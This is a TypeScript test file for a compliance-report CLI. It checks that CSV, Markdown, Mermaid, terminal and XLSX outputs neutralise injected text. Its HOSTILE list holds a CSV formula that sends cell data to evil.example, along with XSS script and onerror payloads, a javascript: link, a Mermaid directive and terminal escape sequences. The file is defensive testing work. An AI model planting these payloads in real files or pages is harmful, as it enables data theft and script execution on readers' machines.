// Outputs as a reader opens them, with hostile text in every name, owner,
// evidence, note and answer: spreadsheets read no formula and split no cell,
// Markdown renders no element the report did not put there, the Mermaid
// diagram takes no directive, terminals get no escape sequence, and no XLSX
// cell is longer than Excel holds.
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium } from 'playwright-core';
import { pathToFileURL } from 'node:url';
import { stringify } from 'yaml';
import { marked } from 'marked';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { cli } from '../cli/run.js';
import { AS_OF, checkJson, exampleFlow, scratch, writeFlow } from './helpers.js';
import type { Flow, Report } from '../../src/core/types.js';
import { buildDiagram, toMermaid } from '../../src/core/diagram.js';
import { formatIssue } from '../../src/cli/io.js';
import { EXCEL_CELL_LIMIT } from '../../src/core/cells.js';

/** Text that a spreadsheet, a Markdown renderer, Mermaid or a terminal could take for something else. */
export const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1,2)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\uff1d1+1',
  'cell\r\nbreak',
  'lone\rreturn',
  'lone\nnewline',
  'tab\tinside',
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '# Injected heading',
  '- injected bullet',
  '1. injected item',
  'name\n# Heading from a newline\n- bullet from a newline\n\n<script>window.pwned=1</script>',
  '[a link](javascript:window.pwned=1)',
  '![an image](https://evil.example/x.png)',
  '<https://evil.example/autolink>',
  '`code` **bold** _emphasis_ ~~strike~~ | pipe | &lt;b&gt;',
  '%%{init: {"themeCSS": "body{display:none}"}}%%',
  '"]) --> n0["',
  '\u001b[31mred\u001b[0m\u009b2J\u202eevil',
] as const;

const pick = (k: number) => HOSTILE[k % HOSTILE.length]!;

/** The example flow with every free-text field replaced: hostile text, or the plain `Name k` in the same places. */
function flowWith(text: (k: number) => string): Flow {
  const flow = exampleFlow();
  let k = 0;
  flow.game.name = text(k++);
  flow.controller.name = text(k++);
  flow.controller.dpo = text(k++);
  for (const s of flow.systems) s.name = text(k++);
  for (const v of flow.vendors) v.name = text(k++);
  for (const p of flow.purposes) p.description = text(k++);
  return flow;
}

let dir: string;
const files = { hostile: '', benign: '', status: '', benignStatus: '', answers: '', benignAnswers: '' };

function statusFor(report: Report, text: (k: number) => string): string {
  const items: Record<string, unknown> = {};
  report.items.forEach((item, k) => {
    items[item.id] = { status: 'in-progress', owner: text(k), evidence: [text(k + 1)], notes: text(k + 2) };
  });
  return stringify({ version: 1, items });
}

function answersFor(report: Report, text: (k: number) => string): string {
  const vendors: Record<string, Record<string, unknown>> = {};
  let k = 0;
  for (const v of report.vendors) vendors[v.id] = Object.fromEntries(v.questions.map((q) => [q.id, { answer: 'no', notes: text(k++) }]));
  return stringify({ version: 1, vendors });
}

// Each CLI run reads the whole example; on a busy machine a few take a minute.
const SLOW = 240_000;

beforeAll(() => {
  dir = scratch();
  files.hostile = writeFlow(dir, 'hostile.yaml', flowWith(pick));
  files.benign = writeFlow(
    dir,
    'benign.yaml',
    flowWith((k) => `Name ${k}`),
  );
  const report = checkJson(files.benign);
  const write = (name: string, text: string) => {
    const file = join(dir, name);
    writeFileSync(file, text);
    return file;
  };
  files.status = write('status.yaml', statusFor(report, pick));
  files.benignStatus = write(
    'benign-status.yaml',
    statusFor(report, (k) => `Name ${k}`),
  );
  files.answers = write('answers.yaml', answersFor(report, pick));
  files.benignAnswers = write(
    'benign-answers.yaml',
    answersFor(report, (k) => `Name ${k}`),
  );
}, SLOW);

const runs = new Map<string, string>();
/** The CLI's output for these arguments, run once per file (the CLI runs are most of this file's time). */
function run(args: string[]): string {
  const key = JSON.stringify(args);
  let out = runs.get(key);
  if (out === undefined) {
    const r = cli(args);
    if (r.code !== 0) throw new Error(`${args.join(' ')} failed (${r.code}): ${r.stderr}`);
    runs.set(key, (out = r.stdout));
  }
  return out;
}

const checkArgs = (hostile: boolean) => [
  'check',
  hostile ? files.hostile : files.benign,
  '--as-of',
  AS_OF,
  '--status',
  hostile ? files.status : files.benignStatus,
  '--answers',
  hostile ? files.answers : files.benignAnswers,
];

// ---------------------------------------------------------------- CSV

/** How a spreadsheet decides that typed text is a formula, after what it may skip (this test's own reading of OWASP's list). */
const SPREADSHEET_FORMULA = /^[\s\p{Cc}\p{Cf}\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/u;

/** The cells that stand outside quotes hold no CR, LF or tab: a reader that splits on them splits nothing. */
function unquotedBreaks(csv: string): string[] {
  const found: string[] = [];
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (c === '"') quoted = !quoted;
    else if (!quoted && (c === '\t' || (c === '\r' && csv[i + 1] !== '\n') || (c === '\n' && csv[i - 1] !== '\r')))
      found.push(JSON.stringify(csv.slice(Math.max(0, i - 20), i + 5)));
  }
  return found;
}

function csvOutputs(): Record<string, string> {
  return {
    checklist: run([...checkArgs(true), '--format', 'csv']),
    questions: run(['questions', files.hostile, '--as-of', AS_OF, '--format', 'csv']),
    ropa: run(['ropa', files.hostile, '--format', 'csv']),
    'ropa-processor': run(['ropa', files.hostile, '--format', 'csv', '--view', 'processor']),
  };
}

describe('CSV: every CSV the tool writes', () => {
  let outputs: Record<string, string>;
  beforeAll(() => {
    outputs = csvOutputs();
    for (const [name, text] of Object.entries(outputs)) writeFileSync(join(dir, `${name}.csv`), text);
  }, SLOW);

  it('quotes every cell with a CR, LF or tab', () => {
    for (const [name, csv] of Object.entries(outputs)) expect(unquotedBreaks(csv), name).toEqual([]);
  });

  it('has no cell a spreadsheet would read as a formula, and each hostile text is in some cell', () => {
    for (const [name, csv] of Object.entries(outputs)) {
      const rows = parseCsv(csv, { bom: true, relax_column_count: false }) as string[][];
      const cells = rows.flat();
      expect(
        cells.filter((c) => SPREADSHEET_FORMULA.test(c)),
        name,
      ).toEqual([]);
      expect(new Set(rows.map((r) => r.length)).size, `${name}: every row has the header's cells`).toBe(1);
    }
    // the owners cover every hostile start; each is there whole, after the guard's quote
    const cells = new Set(Object.values(outputs).flatMap((csv) => (parseCsv(csv, { bom: true }) as string[][]).flat()));
    for (const h of HOSTILE.slice(0, 12)) expect(cells.has(`'${h}`), JSON.stringify(h)).toBe(true);
  });
});

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((f) => existsSync(f));
if (!SOFFICE) console.warn('skipping the LibreOffice test: no soffice (apt-get install libreoffice-calc-nogui)');

describe.skipIf(!SOFFICE)('CSV opened in LibreOffice Calc', () => {
  it(
    'has no formula cell; the same cells unguarded do',
    () => {
      const csvs = ['checklist', 'questions', 'ropa', 'ropa-processor'].map((n) => join(dir, `${n}.csv`));
      for (const f of csvs) expect(existsSync(f), f).toBe(true);
      // the control: what the guard stops, written as it would be without it
      const control = join(dir, 'control.csv');
      writeFileSync(control, '=1+1,=HYPERLINK("https://evil.example";"x")\r\n');
      const out = join(dir, 'calc');
      const r = spawnSync(
        SOFFICE!,
        [`-env:UserInstallation=file://${join(dir, 'lo-profile')}`, '--headless', '--convert-to', 'fods', '--outdir', out, ...csvs, control],
        { encoding: 'utf8', timeout: SLOW - 10_000 },
      );
      expect(r.status, r.stderr).toBe(0);
      const formulas = (name: string) => [...readFileSync(join(out, `${name}.fods`), 'utf8').matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]);
      expect(readdirSync(out).sort()).toEqual(['checklist.fods', 'control.fods', 'questions.fods', 'ropa-processor.fods', 'ropa.fods']);
      expect(formulas('control')).toHaveLength(2);
      for (const name of ['checklist', 'questions', 'ropa', 'ropa-processor']) expect(formulas(name), name).toEqual([]);
    },
    SLOW,
  );
});

// ---------------------------------------------------------------- Markdown

/** The elements of rendered HTML, by tag name, counted. */
function elements(html: string): Record<string, number> {
  const count: Record<string, number> = {};
  for (const m of html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)) count[m[1]!.toLowerCase()] = (count[m[1]!.toLowerCase()] ?? 0) + 1;
  return count;
}

const render = (md: string) => marked.parse(md, { async: false, gfm: true }) as string;

describe('Markdown: names, answers, notes, owners and rule texts are text', () => {
  const outputs = (hostile: boolean): Record<string, string> => {
    const flow = hostile ? files.hostile : files.benign;
    return {
      checklist: run([...checkArgs(hostile), '--format', 'md']),
      questions: run(['questions', flow, '--as-of', AS_OF, '--format', 'md']),
      ropa: run(['ropa', flow, '--format', 'md']),
      'ropa-processor': run(['ropa', flow, '--format', 'md', '--view', 'processor']),
    };
  };

  it(
    'renders, with a standard renderer (marked, GFM), to the same elements as plain names do',
    () => {
      const plain = outputs(false);
      const hostile = outputs(true);
      for (const name of Object.keys(plain)) {
        const html = render(hostile[name]!);
        expect(html, name).not.toMatch(/<(script|img|iframe)\b/i);
        expect(html, name).not.toMatch(/href="javascript:/i);
        expect(elements(html), name).toEqual(elements(render(plain[name]!)));
      }
    },
    SLOW,
  );

  it(
    'diff: titles from either report are text',
    () => {
      const benignJson = join(dir, 'benign.json');
      const hostileJson = join(dir, 'hostile.json');
      writeFileSync(benignJson, run(['check', files.benign, '--as-of', AS_OF, '--format', 'json']));
      writeFileSync(hostileJson, run([...checkArgs(true), '--format', 'json']));
      const plainJson = join(dir, 'plain-answers.json');
      writeFileSync(plainJson, run([...checkArgs(false), '--format', 'json']));
      const hostileDiff = render(run(['diff', benignJson, hostileJson, '--format', 'md']));
      const plainDiff = render(run(['diff', benignJson, plainJson, '--format', 'md']));
      expect(hostileDiff).not.toMatch(/<(script|img)\b/i);
      expect(elements(hostileDiff)).toEqual(elements(plainDiff));
    },
    SLOW,
  );

  it('written to a terminal, carries no control character but line breaks', () => {
    for (const text of Object.values(outputs(true))) expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
  });
});

const CHROMIUM = '/usr/bin/chromium';
const haveChromium = existsSync(CHROMIUM);

describe.skipIf(!haveChromium && !process.env['CI'])('Markdown rendered by marked, opened in headless Chromium', () => {
  let context: Awaited<ReturnType<typeof chromium.launchPersistentContext>> | undefined;
  beforeAll(async () => {
    context = await chromium.launchPersistentContext(join(dir, 'chromium-profile'), {
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
  }, 60_000);
  afterAll(async () => {
    await context?.close();
  });

  /** Whether opening the HTML ran anything of the input, and what it asked of the network. */
  async function open(name: string, html: string): Promise<{ pwned: unknown; requests: string[] }> {
    const file = join(dir, `${name}.html`);
    writeFileSync(file, `<!DOCTYPE html><meta charset="utf-8"><body>${html}</body>`);
    const page = await context!.newPage();
    const requests: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('file:')) requests.push(r.url());
    });
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    await page.waitForTimeout(200);
    const pwned = await page.evaluate(() => (globalThis as unknown as { pwned?: unknown }).pwned);
    await page.close();
    return { pwned, requests };
  }

  it(
    'runs nothing and loads nothing; the same text as raw HTML would',
    async () => {
      // the control: what escaping stops, unescaped
      expect((await open('control', render('<img src=x onerror="window.pwned=1">'))).pwned).toBe(1);
      for (const [name, md] of Object.entries({
        checklist: run([...checkArgs(true), '--format', 'md']),
        questions: run(['questions', files.hostile, '--as-of', AS_OF, '--format', 'md']),
        ropa: run(['ropa', files.hostile, '--format', 'md']),
      }))
        expect(await open(name, render(md)), name).toEqual({ pwned: undefined, requests: [] });
    },
    SLOW,
  );
});

// ---------------------------------------------------------------- Mermaid

describe('Mermaid: no directive, comment or statement from a name', () => {
  it('every label is one quoted string of plain text and entity codes', () => {
    const text = toMermaid(buildDiagram(flowWith(pick)));
    expect(text).not.toContain('%%');
    expect(text).not.toContain('themeCSS"');
    expect(text).not.toMatch(/[\r\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    const label = String.raw`"[^"%{}|\`#]*(?:#(?:\d+|quot|amp|lt|gt);[^"%{}|\`#]*)*"`;
    const shapes = [
      String.raw`flowchart LR`,
      String.raw`  subgraph (first_party|vendors)\["[A-Za-z ]+"\]`,
      String.raw`  end`,
      String.raw`    n\d+\(\[${label}\]\)`,
      String.raw`    n\d+\[\/${label}\/\]`,
      String.raw`    n\d+\[\(${label}\)\]`,
      String.raw`  n\d+ (-->|-\.->)\|${label}\| n\d+`,
      String.raw`  linkStyle [\d,]+ stroke:#c0392b,stroke-width:2px`,
    ].map((s) => new RegExp(`^${s}$`));
    const lines = text.trimEnd().split('\n');
    expect(lines.filter((l) => !shapes.some((s) => s.test(l)))).toEqual([]);
    expect(lines.filter((l) => l.startsWith('    n'))).toHaveLength(exampleFlow().systems.length + exampleFlow().vendors.length);
  });

  it(
    'in the Markdown checklist, the diagram block is that text, fenced',
    () => {
      const md = run(['check', files.hostile, '--as-of', AS_OF, '--format', 'md']);
      const block = md.split('```mermaid\n')[1]!.split('```')[0]!;
      expect(block).toBe(toMermaid(buildDiagram(flowWith(pick))));
    },
    SLOW,
  );
});

// ---------------------------------------------------------------- terminal

describe('Terminal: control characters in echoed values are shown escaped', () => {
  it('in a problem with the input', () => {
    const line = formatIssue(
      { file: 'flow.yaml', pointer: '/x', line: 1, column: 2, message: 'unknown market "\u001b[2J\u001b]0;owned\u0007"', hint: '\u009b31m\r\n' },
      '/',
    );
    expect(line).toBe('flow.yaml:1:2: unknown market "\\x1b[2J\\x1b]0;owned\\x07" (\\x9b31m\\r\\n)');
  });

  it(
    'in a usage error from the command line',
    () => {
      const r = cli(['check', files.benign, '--as-of', AS_OF, '--market', 'X\u001b[31mY']);
      expect(r.code).toBe(2);
      expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
      expect(r.stderr).toContain('\\x1b[31m');
    },
    SLOW,
  );
});

// ---------------------------------------------------------------- XLSX

describe('XLSX: no cell longer than Excel holds', () => {
  it(
    'a 40,000-character name is cut to 32,767 characters with a marker',
    async () => {
      const flow = exampleFlow();
      flow.vendors[0]!.name = 'V'.repeat(40_000);
      flow.purposes[0]!.description = `=${'D'.repeat(50_000)}`;
      const file = writeFlow(dir, 'long.yaml', flow);
      const outputs = [
        ['check', file, '--as-of', AS_OF, '--format', 'xlsx'],
        ['questions', file, '--as-of', AS_OF, '--format', 'xlsx'],
        ['ropa', file, '--format', 'xlsx'],
      ];
      for (const [k, args] of outputs.entries()) {
        const out = join(dir, `long-${k}.xlsx`);
        run([...args, '--out', out]);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(readFileSync(out) as unknown as ArrayBuffer);
        const texts: string[] = [];
        wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => texts.push(String(c.value ?? '')))));
        expect(Math.max(...texts.map((t) => t.length)), args[0]).toBe(EXCEL_CELL_LIMIT);
        const cut = texts.filter((t) => t.length === EXCEL_CELL_LIMIT);
        expect(cut.length, args[0]).toBeGreaterThan(0);
        for (const t of cut) expect(t).toMatch(/ \[…cut: \d+ more characters; the JSON or CSV output has the full text\]$/);
      }
    },
    SLOW,
  );
});
